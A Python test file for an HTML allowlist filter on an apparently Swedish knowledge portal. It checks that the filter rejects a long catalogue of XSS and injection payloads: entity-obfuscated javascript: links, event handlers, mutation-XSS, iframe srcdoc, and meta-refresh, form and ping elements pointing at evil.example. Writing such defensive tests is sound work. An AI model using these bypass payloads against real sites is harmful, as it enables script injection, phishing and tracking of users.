"""The allowlist check on rendered HTML (portal.content.rendered_html): what a browser would parse,
not what a regular expression sees. One case per way around a naive check."""
from __future__ import annotations

import pytest
from hypothesis import given, settings, strategies as st

from portal.content.rendered_html import CONTENT, DOCUMENT, problems

HOSTILE_CONTENT = {
    "script": "<p>x</p><script>alert(1)</script>",
    "script-uppercase": "<SCRIPT>alert(1)</SCRIPT>",
    "script-split": "<scr<script>ipt>alert(1)</script>",
    "handler-unquoted": "<img src=x onerror=alert(1)>",
    "handler-mixed-case": '<img src="x" OnError="alert(1)">',
    "handler-after-quoted-gt": '<p title=">" onclick="alert(1)">x</p>',
    "handler-on-details": "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "handler-on-body": "<body onload=alert(1)><p>x</p>",
    "javascript-tab-entity": '<a href="java&#9;script:alert(1)">x</a>',
    "javascript-leading-space": '<a href=" javascript:alert(1)">x</a>',
    "javascript-mixed-case": '<a href="JaVaScRiPt:alert(1)">x</a>',
    "javascript-decimal-entity": '<a href="&#106;avascript:alert(1)">x</a>',
    "javascript-hex-entity-no-semicolon": '<a href="&#x6A;avascript:alert(1)">x</a>',
    "data-url-link": '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "vbscript": '<a href="vbscript:msgbox(1)">x</a>',
    "svg-animate": '<svg><animate attributeName="href" values="java&#115;cript:alert(1)"/></svg>',
    "mathml-mutation": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "iframe-srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "object": '<object data="x.swf"></object>',
    "embed": '<embed src="x.swf">',
    "frameset": "<frameset><frame src=x></frameset>",
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "base": '<base href="https://evil.example/">',
    "form": '<form action="https://evil.example/"><input type="password" name="p"></form>',
    "button-formaction": '<button formaction="https://evil.example/">x</button>',
    "style-element": "<style>body{display:none}</style>",
    "style-attribute": '<p style="position:fixed;top:0">x</p>',
    "srcset": '<img src="a.png" srcset="https://evil.example/a.png 2x" alt="">',
    "ping": '<a href="/x/" ping="https://evil.example/">x</a>',
    "stylesheet-link": '<link rel="stylesheet" href="https://evil.example/a.css">',
    "image-other-host": '<img src="https://evil.example/pixel.png" alt="">',
    "image-protocol-relative": '<img src="//evil.example/pixel.png" alt="">',
    "image-backslashes": '<img src="\\\\evil.example/pixel.png" alt="">',
    "image-data-url": '<img src="data:image/svg+xml,<svg onload=alert(1)>" alt="">',
    "template-hides-script": "<template><script>alert(1)</script></template>",
    "noscript": "<noscript><p>x</p></noscript>",
    "text-input": '<input type="text" name="q">',
    "image-input": '<input type="image" src="https://evil.example/x.png">',
    "theme-data-attribute": '<div data-md-component="dialog">x</div>',
    "custom-element": "<x-foo>x</x-foo>",
    "comment-then-script": "<!-- x --><script>alert(1)</script>",
    "unclosed-comment-then-nothing": "<p>x</p><!-- <script>alert(1)</script>",
}


@pytest.mark.parametrize("case", sorted(HOSTILE_CONTENT))
def test_hostile_content_is_refused(case: str) -> None:
    markup = HOSTILE_CONTENT[case]
    if case == "unclosed-comment-then-nothing":
        assert problems(markup, CONTENT) == []   # the browser reads it as a comment: nothing runs
        return
    assert problems(markup, CONTENT), f"{case} passed the content allowlist"


ORDINARY_CONTENT = [
    '<h2 id="x">Rubrik<a class="headerlink" href="#x" title="Länk till avsnittet">¶</a></h2>',
    '<p><a href="../tecken/">Tecken</a> <a href="mailto:a@b.se">e-post</a> <a href="tel:112">112</a></p>',
    '<p><a href="https://lagen.nu/1962:700" target="_blank" rel="noopener">BrB</a></p>',
    "<table><thead><tr><th>A</th></tr></thead><tbody><tr><td>1</td></tr></tbody></table>",
    '<div class="admonition warning"><p class="admonition-title">Obs</p><p>Text</p></div>',
    '<ul class="task-list"><li class="task-list-item"><label class="task-list-control">'
    '<input type="checkbox" disabled aria-hidden="true"/><span class="task-list-indicator"></span></label> Gjort</li></ul>',
    '<div class="tabbed-set tabbed-alternate" data-tabs="1:2"><input checked="checked" id="__tabbed_1_1" '
    'name="__tabbed_1" type="radio" /><div class="tabbed-labels"><label for="__tabbed_1_1">A</label></div></div>',
    '<p>Se <abbr title="Socialtjänstlagen">SoL</abbr><sup id="fnref:1"><a class="footnote-ref" href="#fn:1">1</a></sup></p>',
    '<details class="note"><summary>Mer</summary><p>Text</p></details>',
    '<p><img alt="Karta" src="../bilder/karta.png" /></p>',
    "<!-- en kommentar --><p>Text</p>",
]


@pytest.mark.parametrize("markup", ORDINARY_CONTENT)
def test_ordinary_converted_markdown_passes(markup: str) -> None:
    assert problems(markup, CONTENT) == []


HOSTILE_DOCUMENT = {
    "inline-script": "<html><head><script>window.x=1</script></head><body></body></html>",
    "script-from-cdn": '<html><head><script src="https://cdn.example/a.js"></script></head></html>',
    "stylesheet-from-cdn": '<html><head><link rel="stylesheet" href="https://fonts.example/a.css"></head></html>',
    "meta-refresh-away": '<html><head><meta http-equiv="refresh" content="0;url=https://evil.example/"></head></html>',
    "meta-refresh-protocol-relative": '<html><head><meta http-equiv="refresh" content="0; url=//evil.example/"></head></html>',
    "meta-csp": '<html><head><meta http-equiv="Content-Security-Policy" content="script-src *"></head></html>',
    "injected-title": "<html><head><title></title><meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\"></title></head></html>",
    "body-onload": "<html><body onload=\"alert(1)\"></body></html>",
    "form-elsewhere": '<html><body><form action="https://evil.example/"></form></body></html>',
    "module-script": '<html><head><script type="module">import "./x.js"</script></head></html>',
}


@pytest.mark.parametrize("case", sorted(HOSTILE_DOCUMENT))
def test_hostile_documents_are_refused(case: str) -> None:
    assert problems(HOSTILE_DOCUMENT[case], DOCUMENT), f"{case} passed the document allowlist"


def test_a_theme_page_passes_the_document_allowlist() -> None:
    page = ('<!doctype html><html lang="sv" class="no-js"><head><meta charset="utf-8">'
            '<meta name="viewport" content="width=device-width,initial-scale=1">'
            '<link rel="canonical" href="https://kunskapsportal.example.se/typfall/resan/">'
            '<link rel="alternate" type="application/atom+xml" href="https://kunskapsportal.example.se/feed.xml" title="Nytt">'
            '<link rel="icon" href="../../assets/favicon.svg"><link rel="stylesheet" href="../../assets/css/portal.css">'
            '<script src="../../assets/js/material-setup.js" data-scope="../.."></script><title>Resan</title></head>'
            '<body dir="ltr" data-md-color-scheme="default"><header class="md-header" data-md-component="header">'
            '<form class="portal-search__form" role="search" action="" method="get" autocomplete="off">'
            '<input type="search" name="q" placeholder="Sök" aria-label="Sök" data-portal-search-input></form>'
            '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><path d="M3 6h18"/></svg></header>'
            '<script id="__config" type="application/json">{"base": "../.."}</script>'
            '<meta http-equiv="refresh" content="0; url=../../typfall/resan/"></body></html>')
    assert problems(page, DOCUMENT) == []


@settings(max_examples=500, deadline=None)
@given(st.text(alphabet=st.sampled_from(list("<>/=\"' `&#;:!-?\nabcdeilnoprstvxjJSgmqu\x00\u202e")), max_size=300))
def test_any_text_is_judged_without_crashing(markup: str) -> None:
    for profile in (CONTENT, DOCUMENT):
        assert isinstance(problems(markup, profile), list)


def test_absolute_addresses_of_the_site_itself_are_its_own() -> None:
    body = '<p><img src="https://kunskapsportal.example.se/bilder/karta.png" alt="Karta"></p>'
    assert problems(body, CONTENT, "https://kunskapsportal.example.se/") == []
    assert problems(body, CONTENT, "https://kunskapsportal.example.se") == []
    assert problems(body, CONTENT)   # without the site's address it is another host
    lookalike = '<img src="https://kunskapsportal.example.se.evil.example/x.png" alt="">'
    assert problems(lookalike, CONTENT, "https://kunskapsportal.example.se/")


def test_what_one_profile_allows_stays_refused_by_the_other_after_many_pages() -> None:
    """The allowlist keeps its answers per tag and per data-* name (a report has thousands of rows): an
    answer for a whole theme page must never leak into the stricter content profile, in either order."""
    document = '<div data-md-component="x"><a href="../x/" data-portal-exit-link>x</a></div>'
    for _ in range(3):
        assert problems(document, DOCUMENT) == []
        assert "<div> has the attribute data-md-component, which is not allowed" in problems(document, CONTENT)
    assert problems('<table><tr><td data-label="a" onclick="x()">x</td></tr></table>', CONTENT) == \
        ["<td> has the event handler onclick"]
    assert problems('<a href="javascript:alert(1)" title="t">x</a>', CONTENT) == ["<a href> links to a 'javascript:' address"]


@given(st.lists(st.from_regex(r"data-[a-z][a-z-]{0,20}", fullmatch=True), min_size=1, max_size=30))
@settings(max_examples=50, deadline=None)
def test_many_data_names_are_judged_the_same_every_time(names: list[str]) -> None:
    markup = "<p " + " ".join(f'{name}="1"' for name in names) + ">x</p>"
    first = problems(markup, CONTENT)
    assert problems(markup, CONTENT) == first
    allowed = {"data-tabs", "data-label", "data-sort", "data-numeric", "data-unsortable"}
    assert {f"<p> has the attribute {name}, which is not allowed" for name in names if name not in allowed} == set(first)
